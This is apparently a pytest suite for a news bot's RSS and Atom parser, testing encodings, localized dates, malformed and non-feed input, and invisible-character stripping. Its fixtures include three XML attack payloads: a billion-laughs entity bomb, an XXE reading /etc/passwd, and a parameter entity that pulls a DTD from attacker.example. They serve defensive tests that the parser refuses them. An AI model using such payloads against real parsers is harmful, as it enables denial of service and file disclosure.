"""Feed parsing: real feeds, charsets, safety checks and the errors for what is not a usable feed."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.news.normalize import html_to_text
from bot.news.parse import (
    MalformedFeedError,
    NotAFeedError,
    TooManyItemsError,
    UnsafeFeedError,
    decode_body,
    parse_feed,
    parse_localized_date,
)
from tests.news.feeds import Item, rss

DATA = Path(__file__).parent / "data"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title></channel></rss>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title><link>http://a.example/1</link></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd" [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""

RSS_091 = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old &amp; proud&nbsp;feed</title><link>http://old.example/</link>
<item><title>Caf\xe9 &eacute;lections</title><link>http://old.example/1</link>
<description>Tom & Jerry</description></item>
</channel></rss>"""

RSS_10 = b"""<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/">
 <channel rdf:about="http://dw.example/"><title>DW</title><link>http://dw.example/</link><description>d</description>
  <items><rdf:Seq><rdf:li rdf:resource="http://dw.example/a"/></rdf:Seq></items></channel>
 <item rdf:about="http://dw.example/a"><title>Summit ends</title><link>http://dw.example/a</link>
  <description>Leaders agreed.</description><dc:date>2026-03-01T10:00:00Z</dc:date></item>
</rdf:RDF>"""


def test_real_rss_feed_parses():
    """The Guardian's RSS 2.0: all items, with GUID, link, title, teaser and a UTC date."""
    feed = parse_feed((DATA / "guardian.rss").read_bytes(), url="https://www.theguardian.com/us/rss")
    assert (feed.title, feed.language, len(feed.items)) == ("The Guardian", "en", 55)
    first = feed.items[0]
    assert first.title == "Trump State of the Union address promised unity but emphasized discord"
    assert first.link == first.guid
    assert "new American moment" in first.summary_html
    assert first.published is not None and first.published[:5] == (2018, 1, 31, 7, 26)


def test_real_atom_feed_parses():
    """heise's Atom feed: content and summary both come through, dates converted to UTC."""
    feed = parse_feed((DATA / "heise.atom").read_bytes(), url="http://www.heise.de/developer/rss/news-atom.xml")
    assert len(feed.items) == 15
    first = feed.items[0]
    assert first.guid == "http://heise.de/-3088438"
    assert "WildFly" in first.content_html
    assert first.published is not None and first.published[:5] == (2016, 2, 1, 16, 22)  # 17:22 +01:00


def test_feed_without_charset_declaration_is_decoded():
    """UOL's feed is Latin-1 with no declaration at all: Portuguese comes out right."""
    feed = parse_feed((DATA / "uolNoticias.rss").read_bytes(), url="http://rss.uol.com.br/feed/noticias.xml")
    assert feed.items[0].title == "Ibope: Bolsonaro perde de Haddad, Ciro e Alckmin em simulações de 2º turno"


def test_portuguese_dates_in_a_real_feed_are_parsed():
    """UOL writes "Seg, 24 Set 2018 19:42:40 -0300": every item gets its own date, in UTC, not the fetch time."""
    feed = parse_feed((DATA / "uolNoticias.rss").read_bytes(), url="http://rss.uol.com.br/feed/noticias.xml")
    dates = [item.published[:6] if item.published else None for item in feed.items]
    assert dates[0] == (2018, 9, 24, 22, 42, 40)
    assert all(date is not None and date[:3] == (2018, 9, 24) for date in dates), dates


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Seg, 24 Set 2018 19:42:40 -0300", (2018, 9, 24, 22, 42, 40)),  # pt
        ("Sáb, 01 Fev 2020 09:00:00 +0000", (2020, 2, 1, 9, 0, 0)),
        ("Lun, 05 Ene 2025 10:00 GMT", (2025, 1, 5, 10, 0, 0)),  # es
        ("mié., 17 dic. 2025 08:30:00 +0100", (2025, 12, 17, 7, 30, 0)),
        ("Mo, 03 Mär 2025 08:00:00 MEZ", (2025, 3, 3, 7, 0, 0)),  # de
        ("Di, 07 Okt 2025 12:00:00 +0200", (2025, 10, 7, 10, 0, 0)),
        ("mer., 05 févr. 2025 10:00:00 +0100", (2025, 2, 5, 9, 0, 0)),  # fr
        ("ven., 15 août 2025 18:00:00 +0200", (2025, 8, 15, 16, 0, 0)),
        ("Gio, 10 Ott 2024 23:59:59 +0200", (2024, 10, 10, 21, 59, 59)),  # it
        ("Lun, 13 Gen 2025 06:15:00 +0100", (2025, 1, 13, 5, 15, 0)),
        ("Ter, 02 Out 2018 10:00:00", (2018, 10, 2, 10, 0, 0)),  # no zone: UTC, as feedparser does
    ],
)
def test_localized_rfc822_dates_are_read(text: str, expected: tuple[int, ...]):
    """Day and month names in the bundled feeds' languages are understood and the zone applied."""
    parsed = parse_localized_date(text)
    assert parsed is not None and parsed[:6] == expected


@pytest.mark.parametrize("text", ["Dom, 31 Fev 2018 10:00:00 +0000", "24 Foo 2018 10:00:00 +0000", "ontem", ""])
def test_impossible_or_unknown_localized_dates_are_refused(text: str):
    """A day the month does not have or a word that is no month gives no date (the item is dated when seen)."""
    assert parse_localized_date(text) is None


def test_localized_date_in_a_feed_item_is_used():
    """A pubDate feedparser cannot read goes through the localized reader; a date in neither stays None."""
    body = (
        b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
        b"<item><title>a</title><link>http://a.example/1</link>"
        b"<pubDate>Qua, 01 Jan 2025 10:00:00 +0100</pubDate></item>"
        b"<item><title>b</title><link>http://a.example/2</link><pubDate>someday</pubDate></item>"
        b"</channel></rss>"
    )
    first, second = parse_feed(body, url="http://a.example/feed").items
    assert first.published is not None and first.published[:5] == (2025, 1, 1, 9, 0)
    assert second.published is None


def test_wrong_declared_charset_is_overridden():
    """A feed that says UTF-8 in its declaration and its header but is Latin-1 still decodes."""
    body = rss([Item("Négociations à Genève", "http://a.example/1")], encoding="latin-1").replace(
        b'encoding="latin-1"', b'encoding="utf-8"'
    )
    feed = parse_feed(body, url="http://a.example/feed", http_charset="utf-8")
    assert feed.items[0].title == "Négociations à Genève"


def test_utf8_wins_over_a_wrong_latin1_header():
    """A UTF-8 body served as ISO-8859-1 is not turned into mojibake."""
    body = rss([Item("Zürich talks", "http://a.example/1")], declaration=False)
    feed = parse_feed(body, url="http://a.example/feed", http_charset="iso-8859-1")
    assert feed.items[0].title == "Zürich talks"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_byte_order_marks_are_honoured(encoding: str):
    """UTF-16 and UTF-8 with a BOM decode correctly."""
    body = rss([Item("Kyiv – update", "http://a.example/1")], encoding="utf-8").decode().encode(encoding)
    assert decode_body(body).lstrip("\ufeff").startswith("<?xml")
    assert parse_feed(body, url="http://a.example/feed").items[0].title == "Kyiv – update"


def test_rss_091_with_external_dtd_and_html_entities():
    """RSS 0.91's external DTD reference is dropped (never loaded); &nbsp; and a bare & are repaired."""
    feed = parse_feed(RSS_091, url="http://old.example/rss")
    assert feed.title == "Old & proud feed"
    assert feed.items[0].title == "Café élections"
    assert feed.items[0].summary_html == "Tom & Jerry"


def test_rss_10_rdf_parses():
    """RSS 1.0 (RDF) items are found."""
    feed = parse_feed(RSS_10, url="http://dw.example/rss")
    assert [(item.title, item.link) for item in feed.items] == [("Summit ends", "http://dw.example/a")]


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY], ids=["laughs", "xxe", "param"])
def test_entity_declarations_are_refused(body: bytes):
    """Entity expansion and external entities are refused before any parser sees them."""
    with pytest.raises(UnsafeFeedError, match="refused"):
        parse_feed(body, url="http://evil.example/feed")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>", "HTML page"),
        (b'{"items": []}', "no XML element"),
        (b"<catalog><book>1</book></catalog>", "neither RSS nor Atom"),
    ],
)
def test_non_feeds_are_refused(body: bytes, message: str):
    """Empty bodies, HTML pages, JSON and other XML are not feeds."""
    with pytest.raises(NotAFeedError, match=message):
        parse_feed(body, url="http://a.example/feed")


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>a</titl></channel></rss>',
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>cut off',
        b'<rss version="2.0"><channel><title>t</title></channel></rss><rss>',
    ],
)
def test_malformed_xml_is_an_error(body: bytes):
    """Mismatched tags, truncation and junk after the root are errors, not guesses."""
    with pytest.raises(MalformedFeedError, match="malformed XML"):
        parse_feed(body, url="http://a.example/feed")


def test_too_many_items_are_refused_before_parsing():
    """A feed of 10,000 items is refused by counting, without parsing it."""
    body = rss([Item(f"Item {n}", f"http://a.example/{n}", guid=str(n)) for n in range(10_000)])
    with pytest.raises(TooManyItemsError, match="10000 items"):
        parse_feed(body, url="http://a.example/feed", max_items=1000)


def test_duplicate_guids_are_kept_for_dedup_to_handle():
    """The parser reports items as they are; deduplication decides what repeats mean."""
    body = rss([Item("One", "http://a.example/1", guid="same"), Item("Two", "http://a.example/1", guid="same")])
    assert [item.guid for item in parse_feed(body, url="http://a.example/feed").items] == ["same", "same"]


def test_permalink_guid_serves_as_link():
    """An item with no <link> but a URL GUID gets the GUID as its link."""
    body = (
        b'<rss version="2.0"><channel><title>t</title><item><title>x</title>'
        b"<guid>https://a.example/story</guid></item></channel></rss>"
    )
    assert parse_feed(body, url="http://a.example/feed").items[0].link == "https://a.example/story"


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><rss version="2.0"><channel></channel></rss>',
        b'<rss version="2.0"><channel><link>http://a.example/</link></channel></rss>',
        b'<feed xmlns="http://www.w3.org/2005/Atom"></feed>',
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"/>',
    ],
    ids=["rss", "rss-link-only", "atom", "rdf"],
)
def test_valid_empty_feed_is_a_feed_with_no_items(body: bytes):
    """An RSS, Atom or RDF feed with no items and no title is valid and empty, not "not a feed"."""
    feed = parse_feed(body, url="http://a.example/feed")
    assert feed.items == []


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
@pytest.mark.parametrize("declared", [True, False])
def test_utf16_and_utf32_without_a_byte_order_mark_are_decoded(encoding: str, declared: bool):
    """UTF-16/32 without a BOM is recognised by its first bytes ("<?" or "<r" in that encoding), as XML 1.0 says."""
    document = rss([Item("Kyiv – update", "http://a.example/1")], encoding="utf-8").decode()
    if declared:
        document = document.replace('encoding="utf-8"', f'encoding="{encoding[:6]}"')
    else:
        document = document.split("\n", 1)[1]  # no XML declaration at all
    feed = parse_feed(document.encode(encoding), url="http://a.example/feed")
    assert feed.items[0].title == "Kyiv – update"


def test_bidi_overrides_and_invisible_characters_are_removed():
    """Right-to-left overrides, isolates and zero-width spaces in titles and text are dropped; joiners stay."""
    title = "Talks \u202eresume\u202c in\u200b Geneva\u2066\u2069 \ufeffnow"
    body = rss([Item(title, "http://a.example/1", description="<p>Ceasefire\u200b agreed \u202eeht\u202c</p>")])
    [item] = parse_feed(body, url="http://a.example/feed").items
    assert item.title == "Talks resume in Geneva now"
    assert html_to_text(item.summary_html) == "Ceasefire agreed eht"
    persian = "می\u200cخواهم"  # a zero-width non-joiner is part of Persian spelling
    [kept] = parse_feed(rss([Item(persian, "http://a.example/2")]), url="http://a.example/feed").items
    assert kept.title == persian
